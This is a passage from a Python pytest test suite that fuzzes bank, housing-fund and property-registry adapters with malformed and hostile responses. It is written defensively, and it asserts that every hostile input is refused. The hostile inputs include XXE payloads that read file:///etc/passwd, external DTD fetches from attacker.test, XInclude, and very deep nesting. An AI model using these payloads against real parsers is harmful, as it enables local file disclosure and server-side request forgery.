    "external_entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    "<CxResponse><Head><Jgxx>&e;</Jgxx></Head></CxResponse>",
    "external_dtd": '<!DOCTYPE CxResponse SYSTEM "http://attacker.test/x.dtd"><CxResponse/>',
    "parameter_entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.test/p">%p;]>'
    "<CxResponse/>",
    "internal_entity_only": '<!DOCTYPE x [<!ENTITY ok "0000">]>'
    "<CxResponse><Head><Jgdm>&ok;</Jgdm></Head></CxResponse>",
    "xinclude": '<CxResponse xmlns:xi="http://www.w3.org/2001/XInclude">'
    '<xi:include href="file:///etc/passwd" parse="text"/></CxResponse>',
    "deep_nesting": "<CxResponse>" + "<a>" * 100_000 + "</a>" * 100_000 + "</CxResponse>",
    "wide": "<CxResponse>" + "<Head/>" * 50_000 + "</CxResponse>",
    "many_attributes": "<CxResponse " + " ".join(f"a{i}='x'" for i in range(20_000)) + "/>",
    "namespaced_root": '<ns:CxResponse xmlns:ns="urn:x"><ns:Head/></ns:CxResponse>',
    "two_roots": "<CxResponse/><CxResponse/>",
    "trailing_garbage": registry_found() + "\x00garbage",
    "declaration_not_first": "\n\n  " + '<?xml version="1.0" encoding="GBK"?>' + registry_found(),
    "non_text_codec_utf7": '<?xml version="1.0" encoding="utf-7"?><CxResponse/>',
    "unknown_encoding": '<?xml version="1.0" encoding="x-no-such"?><CxResponse/>',
    "encoding_too_long": '<?xml version="1.0" encoding="' + "x" * 3000 + '"?><CxResponse/>',
    "root_tag_too_long": "<" + "R" * 3000 + "/>",
}


@pytest.mark.parametrize("call", XML_CALLS, ids=lambda call: call.label)
@pytest.mark.parametrize("name", sorted(HOSTILE_XML))
def test_hostile_xml_documents(call: Call, name: str) -> None:
    """DTDs, entity expansion, external entities and DTDs, XInclude, 100 000-deep nesting,
    20 000 attributes, namespaces, two roots: refused as MalformedResponse, never expanded,
    fetched or crashed on, and quickly."""
    body = HOSTILE_XML[name].encode("utf-8")
    served = Served(200, ((b"content-type", b"text/xml"),), body)
    check(call, served)


@RUN
@given(data=st.data(), call=st.sampled_from(CALLS), status=STATUSES)
def test_hostile_statuses_and_headers(data: st.DataObject, call: Call, status: int) -> None:
    """A realistic body under any status and garbage Retry-After, Content-Encoding,
    Content-Type and Content-Length: an error status is classified by the status."""
    sample = data.draw(st.sampled_from(call.samples))
    served = Served(status, data.draw(headers(sample.content_type)), sample.body)
    check(call, served)


TRANSPORT_FAILURES = (
    httpx.ConnectError,
    httpx.ConnectTimeout,
    httpx.ReadTimeout,
    httpx.WriteTimeout,
    httpx.PoolTimeout,
    httpx.ReadError,
    httpx.WriteError,
    httpx.RemoteProtocolError,
    httpx.LocalProtocolError,
    httpx.UnsupportedProtocol,
    httpx.ProxyError,
)


@settings(RUN, max_examples=60)
@given(
    data=st.data(),
    call=st.sampled_from(CALLS),
    failure=st.sampled_from(TRANSPORT_FAILURES),
    status=STATUSES,
)
def test_connections_that_break(
    data: st.DataObject, call: Call, failure: type[httpx.TransportError], status: int
) -> None:
    """A connection refused, or cut half-way through the body: a retryable timeout or
    unreachable error, unless the status line that did arrive was an error status."""
    sample = data.draw(st.sampled_from(call.samples))
    cut = data.draw(st.none() | st.integers(0, len(sample.body)))
    served = Served(status, (), sample.body, failure, cut)
    outcome = run(call, served)
    # Once the status line has arrived, an error status is the answer: the body is not read.
    expected = (cut is not None and _expected_error(call, status)) or (
        InstitutionTimeout
        if issubclass(failure, httpx.TimeoutException)
        else InstitutionUnreachable
    )
    assert isinstance(outcome, expected), f"{call.label}: {failure.__name__} gave {outcome!r}"
    judge(call, served, outcome)


# --- regressions: the minimal inputs that once broke an adapter ---------------------------------

BY_LABEL = {call.label: call for call in CALLS}


def _served(body: bytes | dict[str, Any], status: int = 200, **header: bytes) -> Served:
    content = as_json(body) if isinstance(body, dict) else body
    return Served(
        status, tuple((k.replace("_", "-").encode(), v) for k, v in header.items()), content
    )


def _bank_found(**account: Any) -> dict[str, Any]:
    found = bank_found()
    found["accounts"][0].update(account)
    return found


def _fund_found(**account: Any) -> dict[str, Any]:
    found = fund_found()
    found["data"]["zhxx"][0].update(account)
    return found


def _registry(unit_field: str, value: str) -> bytes:
    return gbk_xml(
        registry_found().replace(
            f"<{unit_field}>2</{unit_field}>", f"<{unit_field}>{value}</{unit_field}>"
        )
    )


#: the explicit examples are the point; no example database, no shrinking across tests
REGRESSION = settings(database=None)


@REGRESSION
@example(label="bank.inquire", served=_served(_bank_found(balance="1e30")))
@example(label="housing_fund.inquire", served=_served(_fund_found(zhye=10**30)))
@example(label="bank.submit", served=_served({**bank_control(), "amount": "1e26"}))
@example(
    label="realestate.inquire",
    served=_served(gbk_xml(registry_found().replace("350000.00", "1e40"))),
)
@given(label=st.just("bank.inquire"), served=st.just(_served(_bank_found(balance="1e30"))))
def test_w1_amount_beyond_decimal_precision(label: str, served: Served) -> None:
    """An amount past what a fen-exact Decimal holds ("1e30", 10**30 fen) is a
    MalformedResponse, not decimal.InvalidOperation escaping from ``Money``."""
    check(BY_LABEL[label], served)


@REGRESSION
@example(
    label="bank.inquire",
    served=_served({**bank_found(), "completedAt": "0001-01-01T00:00:00+08:00"}),
)
@example(
    label="bank.inquire",
    served=_served({**bank_found(), "completedAt": "9999-12-31T23:59:59-01:00"}),
)
@example(
    label="housing_fund.inquire", served=_served({**fund_found(), "cxsj": "0001-01-01 00:00:00"})
)
@example(
    label="realestate.inquire",
    served=_served(gbk_xml(registry_found().replace("20240506101530", "00010101000000"))),
)
@given(
    label=st.just("housing_fund.inquire"),
    served=st.just(_served({**fund_found(), "cxsj": "0001-01-01 00:00:00"})),
)
def test_w2_timestamp_at_the_edge_of_datetime(label: str, served: Served) -> None:
    """A timestamp on 0001-01-01 or 9999-12-31 that cannot be moved to UTC is a
    MalformedResponse, not an OverflowError."""
    check(BY_LABEL[label], served)


@REGRESSION
@example(label="bank.inquire", served=_served({}, 503, retry_after=b"\xb2"))
@example(label="realestate.inquire", served=_served(_registry("Lhsx", "²")))
@example(label="realestate.inquire", served=_served(_registry("Lhsx", "9" * 5000)))
@example(label="bank.inquire", served=_served(bank_found(), content_length=b"\xb2"))
@given(label=st.just("bank.inquire"), served=st.just(_served({}, 503, retry_after=b"\xb2")))
def test_w3_isdigit_is_not_a_number_check(label: str, served: Served) -> None:
    """'²' (byte 0xB2 read as latin-1) and 5000-digit strings are not numbers: Retry-After,
    Content-Length and <Lhsx> accept ASCII digits of sane length only."""
    check(BY_LABEL[label], served)


@REGRESSION
@example(served=_served({**BANK_ACCEPTED, "pollAfterSeconds": 10**400}, 202))
@given(served=st.just(_served({**BANK_ACCEPTED, "pollAfterSeconds": 10**400}, 202)))
def test_w4_huge_poll_after(served: Served) -> None:
    """``pollAfterSeconds: 10**400`` is refused as malformed, not an OverflowError."""
    check(BY_LABEL["bank.inquire"], served)


@REGRESSION
@example(body=b'<?xml version="1.0" encoding="hex"?><CxResponse/>')
@example(body=b'<?xml version="1.0" encoding="rot13"?><CxResponse/>')
@example(body=b'<?xml version="1.0" encoding="base64"?><CxResponse/>')
@given(body=st.just(b'<?xml version="1.0" encoding="hex"?><CxResponse/>'))
def test_w5_xml_declares_a_non_text_codec(body: bytes) -> None:
    """An XML declaration (or charset) naming a non-text codec such as "hex" is a
    MalformedResponse, not a LookupError."""
    check(BY_LABEL["realestate.inquire"], _served(body))


@REGRESSION
@example(
    label="housing_fund.inquire",
    served=_served({"code": "1001", "msg": f"证件号码{PARTY.id_number}（{PARTY.name}）格式错误"}),
)
@example(
    label="bank.inquire",
    served=_served({"state": "FAILED", "errorCode": "E1", "errorMessage": f"{PARTY.name}无账户"}),
)
@example(label="bank.inquire", served=_served({"state": "FAILED", "errorCode": PARTY.id_number}))
@example(label="bank.submit", served=_served({"errorCode": "x" * 600}, 409))
@example(label="realestate.inquire", served=_served(f"<X{PARTY.id_number}/>".encode()))
@example(label="realestate.inquire", served=_served(b"<" + b"R" * 600 + b"/>"))
@example(
    label="realestate.inquire",
    served=_served(b"<CxResponse/>", content_type=b"text/xml; charset=" + b"x" * 600),
)
@given(
    label=st.just("housing_fund.inquire"),
    served=st.just(_served({"code": "1001", "msg": f"证件号码{PARTY.id_number}格式错误"})),
)
def test_w6_errors_echo_institution_text(label: str, served: Served) -> None:
    """Institution text in errors is scrubbed and capped: ID numbers, the party's name and
    account-like codes are masked or dropped, tags and encodings are not quoted at length."""
    check(BY_LABEL[label], served)


@REGRESSION
@example(label="housing_fund.inquire", served=_served(_fund_found(djje=-1_000_000)))
@example(label="housing_fund.inquire", served=_served(_fund_found(zhye=-5)))
@example(
    label="bank.inquire",
    served=_served(_bank_found(holds=[{"type": "FREEZE", "amount": "-100.00"}])),
)
@example(
    label="housing_fund.submit",
    served=_served({**fund_control(), "data": {**fund_control()["data"], "je": -1}}),
)
@given(label=st.just("housing_fund.inquire"), served=st.just(_served(_fund_found(djje=-1_000_000))))
def test_w7_negative_amounts(label: str, served: Served) -> None:
    """Negative fen and negative amounts in balances, holds and controls are refused: a
    negative frozen amount must never make more money "available" than the balance."""
    check(BY_LABEL[label], served)


@REGRESSION
@example(served=_served({**BANK_ACCEPTED, "pollAfterSeconds": -3600}, 202))
@given(served=st.just(_served({**BANK_ACCEPTED, "pollAfterSeconds": -1}, 202)))
def test_w8_negative_poll_after(served: Served) -> None:
    """A negative ``pollAfterSeconds`` is not an invitation to poll in a tight loop."""
    check(BY_LABEL["bank.inquire"], served)


@REGRESSION
@example(served=_served(b"not gzip", 503, content_encoding=b"gzip"))
@example(served=_served(b"{}", 503, content_length=b"99999999999999999999"))
@given(served=st.just(_served(b"not gzip", 503, content_encoding=b"gzip")))
def test_w9_body_problem_hides_the_status(served: Served) -> None:
    """A 503 whose body cannot be decoded or is larger than the cap is still "busy, retry",
    judged by its status before the body is read."""
    check(BY_LABEL["bank.inquire"], served)
